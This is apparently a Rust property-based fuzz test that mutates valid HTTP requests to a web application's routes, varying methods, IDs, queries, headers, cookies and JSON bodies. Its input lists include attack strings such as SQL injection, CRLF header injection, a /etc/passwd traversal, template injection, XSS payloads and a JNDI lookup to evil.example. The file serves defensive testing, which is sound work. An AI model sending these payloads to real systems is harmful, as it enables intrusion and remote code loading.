//! What is done to valid calls: the strategies of F1.

use super::{json::Edit, request::Change, verdict::MARKUP};
use proptest::{collection::vec, prelude::*, sample::select};

/// A caller, a route, and what is done to its valid call.
#[derive(Debug, Clone)]
pub struct Case {
    pub who: usize,
    pub route: usize,
    pub changes: Vec<Change>,
}

/// Any case.
pub fn cases(callers: usize, routes: usize) -> impl Strategy<Value = Case> {
    (0..callers, 0..routes, vec(change(), 0..5)).prop_map(|(who, route, changes)| Case {
        who,
        route,
        changes,
    })
}

const METHODS: [&str; 12] = [
    "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "GET", "POST", "PROPFIND",
    "get", "X-!#$%",
];

const IDS: [&str; 16] = [
    "0",
    "-1",
    "1",
    "2",
    "3",
    "9223372036854775807",
    "9223372036854775808",
    "1000000000",
    "18446744073709551616",
    "007",
    "+1",
    "1e3",
    "1.5",
    "%EF%BC%91",
    "٣",
    "null",
];

/// Texts that stand in places of any kind.
const TEXTS: [&str; 24] = [
    "",
    " ",
    "\0",
    "\u{feff}",
    "\u{202e}evil",
    MARKUP,
    "';--",
    "\" OR 1=1 --",
    "%00%0d%0aset-cookie: a=b",
    "\r\nset-cookie: a=b",
    "../../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "true",
    "NaN",
    "-0",
    "1e999",
    "ﷺ﷽𝔘𝔫𝔦",
    "\u{d7ff}\u{10ffff}",
    "👩‍👩‍👧‍👦",
    "/\u{1}\u{7f}",
    "//evil.example",
    "/p/servers?a=é",
    "9223372036854775807",
];

/// JSON that stands where other JSON was.
const VALUES: [&str; 36] = [
    "null",
    "true",
    "0",
    "-1",
    "-0",
    "1.5",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "18446744073709551615",
    "99999999999999999999999999",
    "1e308",
    "1e309",
    "-1e309",
    "1e-400",
    "5e-324",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "01",
    "1.",
    ".5",
    "+1",
    "[]",
    "{}",
    "[[]]",
    "\"\"",
    "\"1\"",
    "\"personal\"",
    "{\"company\":1}",
    "\"\\ud800\"",
    "\"\\u0000\"",
    "\"a",
    "'a'",
    "//",
];

fn text() -> BoxedStrategy<String> {
    prop_oneof![
        6 => select(&TEXTS[..]).prop_map(str::to_owned),
        2 => any::<String>(),
        1 => (select(&["a", "é", "<", "%41", "\u{300}", "\\"][..]), 1..40_000usize)
            .prop_map(|(text, times)| text.repeat(times)),
    ]
    .boxed()
}

fn bytes() -> BoxedStrategy<Vec<u8>> {
    const SHORT: [&[u8]; 14] = [
        b"\0",
        b"\xff",
        b"\xef\xbb\xbf",
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xff\xfe{\0}\0",
        b"\"",
        b"{",
        b"]",
        b",",
        b"\\u",
        b"&a=b&a=b",
        b"%",
    ];
    prop_oneof![
        select(&SHORT[..]).prop_map(<[u8]>::to_vec),
        vec(any::<u8>(), 0..64),
        text().prop_map(String::into_bytes),
    ]
    .boxed()
}

fn json_text() -> BoxedStrategy<String> {
    prop_oneof![
        6 => select(&VALUES[..]).prop_map(str::to_owned),
        4 => text().prop_map(|text| serde_json::Value::from(text).to_string()),
        1 => any::<i64>().prop_map(|number| number.to_string()),
        1 => any::<f64>().prop_map(|number| format!("{number:e}")),
        // Around the limit of the parser, and far beyond.
        1 => select(&[100usize, 127, 128, 129, 5_000][..])
            .prop_map(|depth| format!("{}1{}", "[".repeat(depth), "]".repeat(depth))),
        1 => select(&[100usize, 128, 5_000][..])
            .prop_map(|depth| format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth))),
    ]
    .boxed()
}

fn edit() -> BoxedStrategy<Edit> {
    prop_oneof![
        6 => json_text().prop_map(Edit::Replace),
        1 => Just(Edit::Remove),
        1 => Just(Edit::Double),
        1 => text().prop_map(Edit::Rename),
        1 => json_text().prop_map(Edit::Extend),
    ]
    .boxed()
}

/// Names of pairs that pages and streams read.
const NAMES: [&str; 26] = [
    "q",
    "status",
    "provider",
    "region",
    "attention",
    "sort",
    "desc",
    "after",
    "range",
    "next",
    "token",
    "servers",
    "after",
    "limit",
    "from",
    "until",
    "to",
    "resolution",
    "ghost",
    "tier",
    "before",
    "step",
    "fn",
    "format",
    "hosts",
    "metric",
];

fn query() -> BoxedStrategy<String> {
    const VALUES: [&str; 18] = [
        "",
        "1",
        "name",
        "cpu",
        "net",
        "report",
        "silent",
        "7.91.5",
        "0.NaN",
        "1.inf",
        "-1.1e308",
        "9223372036854775808.x",
        ".",
        "24h",
        "1,2,,3",
        "1,1,1",
        "0",
        "ffffffffffffffff-7",
    ];
    let value = prop_oneof![
        select(&VALUES[..]).prop_map(str::to_owned),
        text().prop_map(|text| ::app::path::encode(&text)),
        vec(any::<u8>(), 0..8)
            .prop_map(|bytes| bytes.iter().map(|byte| format!("%{byte:02x}")).collect()),
        // Broken escapes, and what a query cannot hold.
        select(
            &[
                "%",
                "%2",
                "%zz",
                "%00",
                "+",
                "a&b=c",
                "=",
                "#",
                "é",
                "\"<>",
                "%f0%9f",
                "%ed%a0%80"
            ][..]
        )
        .prop_map(str::to_owned),
    ];
    prop_oneof![
        4 => (select(&NAMES[..]), value.clone()).prop_map(|(name, value)| format!("{name}={value}")),
        1 => (select(&NAMES[..]), value.clone())
            .prop_map(|(name, value)| format!("{name}={value}&{name}={value}&{name}")),
        1 => value,
        1 => (1..3_000usize).prop_map(|times| "a=b&".repeat(times)),
    ]
    .boxed()
}

fn header() -> BoxedStrategy<(&'static str, Vec<u8>)> {
    const KNOWN: &[(&str, &[&str])] = &[
        (
            "cookie",
            &[
                "",
                ";;;",
                "=x",
                "tenon",
                "tenon=",
                "tenon==",
                "tenon=%00",
                "tenon=AAAAAAAAAAAAAAAAAAAAAA",
                "tenon=AAAAAAAAAAAAAAAAAAAAAAA",
                "tenon=////////////////////////",
                "tenon=é; tenon=2; tenon=3",
                "__Host-tenon=x",
                "tenon_locale=fr; tenon_theme=%3Cscript%3E",
                "tenon_locale=%ff",
                "tenon_flash=%7B%7D",
                "tenon_flash=null",
                "tenon_device=%",
                "tenon_device=a; tenon_device=b",
                "tenon_flash=%7B%22error%22%3A%7B%22error%22%3A%22too_many%22%2C%22retry_after%22%3A4294967295%7D%2C%22mobile%22%3A%22%3Ci7xq%20onx%3D%271%27%3E%5C%22%22%2C%22name%22%3A%22%3Ci7xq%3E%22%2C%22notice%22%3Anull%7D",
                "tenon_flash=%7B%22error%22%3A%7B%22error%22%3A%22invalid%22%2C%22fields%22%3A%5B%5D%7D%2C%22mobile%22%3A%22%22%2C%22name%22%3A%22%22%2C%22notice%22%3Anull%7D",
                "tenon_flash=%7B%22error%22%3A%7B%22error%22%3A%22internal%22%2C%22request_id%22%3A%22%3Ci7xq%3E%22%7D%2C%22mobile%22%3A%22%22%2C%22name%22%3A%22%22%2C%22notice%22%3Anull%7D",
            ],
        ),
        (
            "accept",
            &[
                "",
                "text/html",
                "*/*",
                "application/json",
                "text/html, */*;q=0",
                "x",
            ],
        ),
        (
            "accept-language",
            &[
                "",
                "*",
                "en;q=NaN",
                "zh;q=-1,en;q=inf",
                ";;q=,,x=1",
                "zh-CN",
                "en;q=1e999",
            ],
        ),
        (
            "accept-encoding",
            &[
                "",
                "gzip",
                "br",
                "br;q=0",
                "identity;q=0",
                "*;q=0",
                "gzip;q=NaN, br;q=2",
                "zstd, x",
            ],
        ),
        (
            "range",
            &[
                "bytes=0-",
                "bytes=-1",
                "bytes=-0",
                "bytes=9-1",
                "bytes=0-1,3-4",
                "bytes=18446744073709551615-",
                "bytes=a-b",
                "lines=1-2",
                "bytes=0-0,0-0,0-0",
            ],
        ),
        ("if-range", &["x", "\"a\"", "Thu, 01 Jan 1970 00:00:00 GMT"]),
        ("if-none-match", &["*", "\"\"", "W/\"a\", \"b\"", "x"]),
        ("if-match", &["*", "\"a\""]),
        (
            "if-modified-since",
            &[
                "x",
                "Thu, 01 Jan 9999 00:00:00 GMT",
                "Thu, 01 Jan 1970 00:00:00 GMT",
            ],
        ),
        (
            "if-unmodified-since",
            &["Thu, 01 Jan 1970 00:00:00 GMT", "-1"],
        ),
        (
            "last-event-id",
            &[
                "",
                "-",
                "0-1",
                "ffffffffffffffff-7",
                "0-18446744073709551615",
                "0-18446744073709551616",
                "x",
            ],
        ),
        (
            "x-forwarded-for",
            &[
                "",
                ",",
                "1.1.1.1",
                "unknown",
                "::1, 1.2.3.4:99999",
                "[::1",
                "0.0.0.0",
            ],
        ),
        ("x-forwarded-proto", &["https", "gopher"]),
        ("x-request-id", &["aaaaaaaa", "<i7xq>", "a b"]),
        ("x-http-method-override", &["DELETE"]),
        ("x-original-url", &["/platform/tasks"]),
        (
            "origin",
            &[
                "null",
                "http://127.0.0.1:8010",
                "https://evil.example",
                "http://",
                "x",
            ],
        ),
        ("sec-fetch-site", &["cross-site", "none", "same-origin", ""]),
        (
            "referer",
            &[
                "http://evil.example/?a=b#c",
                "x",
                "/",
                "javascript:alert(1)",
                "http://[::",
            ],
        ),
        (
            "authorization",
            &[
                "",
                "Bearer",
                "Bearer ",
                "bearer x",
                "Bearer x y",
                "Basic YTpi",
                "Bearer \u{e9}",
                "Negotiate",
            ],
        ),
        (
            "host",
            &[
                "",
                "evil.example",
                "127.0.0.1:8010, evil.example",
                "a:b:c",
                "[::1",
                "<i7xq>",
            ],
        ),
        (
            "content-type",
            &[
                "",
                "text/plain",
                "application/json; charset=utf-16",
                "application/json;charset=latin1",
                "application/x-www-form-urlencoded",
                "application/x-www-form-urlencoded; charset=gbk",
                "multipart/form-data",
                "multipart/form-data; boundary=x",
                "application/octet-stream",
                "x",
                "application/json, text/plain",
                ";",
            ],
        ),
        (
            "content-length",
            &["0", "1", "18446744073709551615", "-1", "x"],
        ),
        ("content-encoding", &["gzip", "br", "identity", "x"]),
        ("transfer-encoding", &["chunked", "gzip, chunked", "x"]),
        ("expect", &["100-continue", "x"]),
        ("upgrade", &["websocket", "h2c"]),
        ("connection", &["upgrade", "close", "x"]),
        ("te", &["trailers"]),
        ("priority", &["u=9"]),
        ("serverfnerror", &["x"]),
        ("serverfnredirect", &["http://evil.example"]),
    ];
    let known: Vec<(&'static str, Vec<u8>)> = KNOWN
        .iter()
        .flat_map(|(name, values)| {
            values
                .iter()
                .map(|value| (*name, value.as_bytes().to_vec()))
        })
        .collect();
    let names: Vec<&'static str> = KNOWN.iter().map(|(name, _)| *name).collect();
    prop_oneof![
        8 => select(known),
        1 => (select(names.clone()), vec(any::<u8>(), 0..40)),
        1 => (select(names), 1..20_000usize).prop_map(|(name, size)| (name, vec![b'a'; size])),
        1 => (1..4_000usize).prop_map(|times| ("cookie", "a=b; ".repeat(times).into_bytes())),
        1 => (1..4_000usize).prop_map(|times| ("accept-language", "zh;q=0.1,".repeat(times).into_bytes())),
        1 => (1..4_000usize).prop_map(|times| ("accept-encoding", "gzip;q=0.1,".repeat(times).into_bytes())),
        1 => (1..4_000usize).prop_map(|times| ("range", format!("bytes=0-0{}", ",0-0".repeat(times)).into_bytes())),
    ]
    .boxed()
}

/// Below, at and above the limits of forms, of arguments and of reports.
const SIZES: [usize; 8] = [
    1_000, 16_384, 16_385, 262_144, 262_145, 1_000_000, 2_097_152, 2_097_153,
];

fn change() -> BoxedStrategy<Change> {
    prop_oneof![
        1 => select(&METHODS[..]).prop_map(Change::Method),
        2 => any::<usize>().prop_map(Change::Path),
        2 => select(&IDS[..]).prop_map(Change::Id),
        3 => query().prop_map(Change::Query),
        6 => header().prop_map(|(name, value)| Change::Header(name, value)),
        1 => select(&["content-type", "sec-fetch-site"][..]).prop_map(Change::NoHeader),
        8 => (0..64usize, edit()).prop_map(|(at, edit)| Change::Json(at, edit)),
        3 => (0..8usize, text()).prop_map(|(at, value)| Change::Field(at, value)),
        1 => (0..8usize).prop_map(Change::DoubleField),
        1 => (0..8usize).prop_map(Change::NoField),
        1 => any::<u16>().prop_map(Change::Truncate),
        2 => (any::<u16>(), bytes()).prop_map(|(at, bytes)| Change::Splice(at, bytes)),
        2 => bytes().prop_map(Change::Body),
        1 => (select(&["[", "{\"a\":", " ", "x", "a=b&", "%", "1,", "\0"][..]), select(&SIZES[..]))
            .prop_map(|(text, size)| Change::Fill(text, size)),
        1 => Just(Change::Chunked),
    ]
    .boxed()
}
